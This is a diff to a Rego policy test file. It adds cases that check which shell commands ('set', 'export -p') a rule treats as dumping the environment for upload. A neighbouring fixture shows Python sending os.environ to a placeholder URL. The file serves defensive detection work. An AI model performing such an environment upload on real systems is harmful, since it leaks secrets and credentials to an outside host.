@@ -61,6 +61,16 @@ test_env_dump_and_upload_denied if {
 	d.id == "shell/environment-exfiltration"
 }
 
+test_shell_options_are_not_an_env_dump if {
+	up := [{"program": "git", "target": "origin", "evidence": "git push origin v1"}]
+	count([d | some d in rules.decision; d.id == "shell/environment-exfiltration"]) == 0 with input as shell_input([], {"commands": [{"program": "set", "argv": ["set", "-xue"], "evidence": "set -xue"}], "uploads": up})
+	count([d | some d in rules.decision; d.id == "shell/environment-exfiltration"]) == 0 with input as shell_input([], {"commands": [{"program": "export", "argv": ["export", "TAG=v1"], "evidence": "export TAG=v1"}], "uploads": up})
+	some d in rules.decision with input as shell_input([], {"commands": [{"program": "set", "argv": ["set"], "evidence": "set"}], "uploads": up})
+	d.id == "shell/environment-exfiltration"
+	some e in rules.decision with input as shell_input([], {"commands": [{"program": "export", "argv": ["export", "-p"], "evidence": "export -p"}], "uploads": up})
+	e.id == "shell/environment-exfiltration"
+}
+
 test_env_upload_from_interpreter_denied if {
 	sh := {"uploads": [{"program": "python3", "target": "x", "evidence": "u.urlopen('https://x/', data=repr(dict(os.environ)))"}]}
 	some d in rules.decision with input as shell_input([], sh)
